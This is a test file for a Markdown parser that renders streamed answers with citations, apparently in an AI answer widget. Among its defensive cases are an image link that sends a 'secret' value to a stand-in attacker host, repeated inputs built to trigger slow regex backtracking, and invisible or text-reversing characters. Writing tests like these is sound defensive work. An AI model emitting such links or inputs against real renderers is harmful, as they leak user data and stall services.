// Tests the Markdown parser of answers.

import test from 'node:test';
import assert from 'node:assert/strict';
import { ANSWER_CHARS_MAX, parseBlocks, parseInline, plainText } from '../../web/widget/markdown.ts';

/** A tree in short notation: <b>, <i>, `code`, {label|url}, ^1,2 for citations, / for a line break. */
const show = (nodes) => nodes.map((node) => {
  switch (node.kind) {
    case 'text': return node.text;
    case 'code': return `\`${node.text}\``;
    case 'strong': return `<b>${show(node.children)}</b>`;
    case 'em': return `<i>${show(node.children)}</i>`;
    case 'link': return `{${show(node.children)}|${node.url}}`;
    case 'cite': return `^${node.ids}`;
    case 'break': return '/';
  }
}).join('');
const inline = (text) => show(parseInline(text));
const list = ({ ordered, start, items }) =>
  `${ordered ? `ol${start}` : 'ul'}(${items.map((item) => show(item.children) + item.lists.map(list).join('')).join(';')})`;
const blocks = (text) => parseBlocks(text).map((block) => {
  switch (block.kind) {
    case 'rule': return 'rule';
    case 'code': return `code(${block.text})`;
    case 'list': return list(block);
    case 'table': return `table(${[block.head, ...block.rows].map((row) => row.map(show).join(',')).join(';')})`;
    default: return `${block.kind}(${show(block.children)})`;
  }
}).join(' ');

const inlines = [
  ['plain <b>text</b> & more', 'plain <b>text</b> & more'],
  ['**bold** and *slanted* and __bold__ and _slanted_', '<b>bold</b> and <i>slanted</i> and <b>bold</b> and <i>slanted</i>'],
  ['**bold with *both* in it**', '<b>bold with <i>both</i> in it</b>'],
  ['2 * 3 * 4 = 24, snake_case_name, ** open, *open', '2 * 3 * 4 = 24, snake_case_name, ** open, *open'],
  ['`code **not bold** [1]` and ``a ` b``', '`code **not bold** [1]` and `a ` b`'],
  ['an open ` mark', 'an open ` mark'],
  ['Thirty days [1], free [1, 2] or [3][4].', 'Thirty days ^1, free ^1,2 or ^3^4.'],
  ['an [1](https://a.example) link with a number', 'an {1|https://a.example} link with a number'],
  ['[label](https://a.example/x?y=1#z "title") [x](<https://a.example>)', '{label|https://a.example/x?y=1#z} {x|https://a.example}'],
  ['[**bold** words](https://a.example)', '{**bold** words|https://a.example}'],
  ['see https://a.example/b_c. Or <https://a.example>!', 'see {https://a.example/b_c|https://a.example/b_c}. Or <{https://a.example|https://a.example}>!'],
  ['xhttps://a.example is none', 'xhttps://a.example is none'],
  ['![a picture](https://evil.example/leak?d=secret) stays words', 'a picture stays words'],
  ['![](https://evil.example/leak)', ''],
  ['[ref][1] and [ref]: https://a.example', '[ref]^1 and [ref]: {https://a.example|https://a.example}'],
  ['\\*not\\* \\[1\\]', '*not* [1]'],
  ['one\ntwo', 'one/two'],
  ['[1234] [a] [] [1,] [0]', '[1234] [a] [] [1,] ^0'],
];
for (const [given, expected] of inlines) test(`inline: ${given.slice(0, 60)}`, () => assert.equal(inline(given), expected));

const wholes = [
  ['', ''],
  ['one\n\n\ntwo\nlines', 'paragraph(one) paragraph(two/lines)'],
  ['# Head\ntext\n### Less ###', 'heading(Head) paragraph(text) heading(Less)'],
  ['- a\n- b **c**\n\n- d\ntext', 'ul(a;b <b>c</b>;d) paragraph(text)'],
  ['3. a\n4. b', 'ol3(a;b)'],
  ['- a\n  - b\n  - c\n- d', 'ul(aul(b;c);d)'],
  ['- a\n  1. b\n  - c\n- d', 'ul(aol1(b)ul(c);d)'],
  ['- a\n  goes on\n- b', 'ul(a/goes on;b)'],
  ['text:\n- a', 'paragraph(text:) ul(a)'],
  ['- a\n1. b', 'ul(a) ol1(b)'],
  ['```js\nlet a = "[1]";\n\nb\n```\nafter', 'code(let a = "[1]";\n\nb) paragraph(after)'],
  ['```\nopen while it streams', 'code(open while it streams)'],
  ['> said\n> so\nafter', 'quote(said/so) paragraph(after)'],
  ['a\n---\nb', 'paragraph(a) rule paragraph(b)'],
  ['| a | b |\n|---|:-:|\n| 1 | **2** |\n| 3 |', 'table(a,b;1,<b>2</b>;3,)'],
  ['a | b is no table', 'paragraph(a | b is no table)'],
];
for (const [given, expected] of wholes) test(`blocks: ${JSON.stringify(given).slice(0, 60)}`, () => assert.equal(blocks(given), expected));

test('every beginning of an answer is some tree: it is drawn while it comes', () => {
  const text = '# H\n\n**b *i* b** `c` [1, 2] [l](https://a.example)\n\n- a\n  - b\n\n```\ncode\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> q';
  for (let end = 0; end <= text.length; end++) assert.ok(Array.isArray(parseBlocks(text.slice(0, end))));
});

test('runs of one character between others are read in a moment', () => {
  // Quadratic patterns take seconds for these, cubic ones years.
  const parts = ['# ', '#', '- ', '1. ', '-', '|', '|-', 'x', '[1', '[a](', '[a](b', '![', '> ', '```', '\u2028', '"', ':-', 'http://'];
  for (const before of parts) {
    for (const run of [' ', '#', '-', '\t', '|', '\u2028', '[', '`', '.']) {
      for (const after of ['x', '\u2028', '']) {
        const text = before + run.repeat(ANSWER_CHARS_MAX - 50) + after;
        const started = performance.now();
        parseBlocks(`a | b\n${text}`);
        parseBlocks(text);
        assert.ok(performance.now() - started < 20_000, `${JSON.stringify([before, run, after])} took too long`);
      }
    }
  }
});

test('the marks at the ends of a heading are left out', () => {
  for (const [line, text] of [['# a', 'a'], ['#   a b  ##', 'a b'], ['## a # #', 'a #'], ['# ##', ''], ['   ### c#', 'c']]) {
    assert.equal(blocks(line), `heading(${text})`, line);
  }
});

test('hostile texts are read in a moment', () => {
  for (const unit of ['![[]()', '**', '*a', '`', '[', '[a](', '> ', '- ', '  - ', '|-', '_a_', '[1', 'https://', '\\', '```\n', '1. ', '# ']) {
    const text = unit.repeat(Math.ceil(ANSWER_CHARS_MAX / unit.length));
    const started = performance.now();
    parseBlocks(text);
    parseBlocks(text.split('').join('\n'));
    assert.ok(performance.now() - started < 20_000, `${JSON.stringify(unit)} took too long`);
  }
});

test('an answer past the bound is cut there', () => {
  assert.equal(parseBlocks('a'.repeat(ANSWER_CHARS_MAX + 5))[0].children[0].text.length, ANSWER_CHARS_MAX);
});

test('characters that turn text around or hide in it are left out; those that join letters stay', () => {
  assert.equal(blocks('a\u202Eb\u2066c\u2069 \u{E0041}\u{E007F}d \u0645\u200C\u06CC 👩\u200D🌾'), 'paragraph(abc d \u0645\u200C\u06CC 👩\u200D🌾)');
});

test('those who hear it get words alone', () => {
  assert.equal(plainText('# Returns\n\n**Thirty** days [1], `free` [2].\n\n- one\n  - two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---'),
    'Returns Thirty days, free. one. two a, b. 1, 2');
});
